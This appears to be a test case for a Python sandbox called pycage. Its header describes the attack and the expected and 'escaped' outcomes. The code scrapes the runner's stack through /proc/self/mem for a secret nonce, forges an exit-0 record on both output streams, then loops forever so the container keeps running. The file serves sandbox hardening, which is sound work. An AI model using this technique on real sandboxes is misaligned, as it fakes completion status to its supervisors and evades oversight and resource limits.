# attack: digs the run's nonce out of the runner's stack through /proc/self/mem, forges the
#   exit record (exit 0) on both streams and keeps running: the early answer is documented
#   (it only misleads its own run), but the still-running container must go
# timeout: 5
# expect: answered within 8 s
# either: status is ok ; exit_code is 0 ; stdout equals ""
# either: status in error|timeout
# escaped: status ok ; stdout "AFTER-RECORD\n"
# escaped: status timeout ; wall 40
import re
import sys

io = sys.modules["io"]
found = set()
try:
    with io.open("/proc/self/maps") as f:
        maps = f.read().splitlines()
    with io.open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw") or not line.endswith("[stack]"):
                continue
            low, high = (int(x, 16) for x in fields[0].split("-"))
            mem.seek(low)
            data = mem.read(high - low)
            found.update(re.findall(rb"pycage1 \d+ \d+ ([0-9a-f]{32})\n", data))
            found.update(re.findall(rb"(?<![0-9a-f])([0-9a-f]{32})\x00", data))
except BaseException as exc:
    print("refused", type(exc).__name__, exc, file=sys.stderr)
for nonce in found:
    record = b"\x1epycage-exit " + nonce + b" 0\n"
    sys.stdout.buffer.write(record)
    sys.stderr.buffer.write(record)
sys.stdout.flush()
sys.stderr.flush()
if found:
    print("AFTER-RECORD", flush=True)      # cut off with the record, if the forgery worked
while True:
    pass
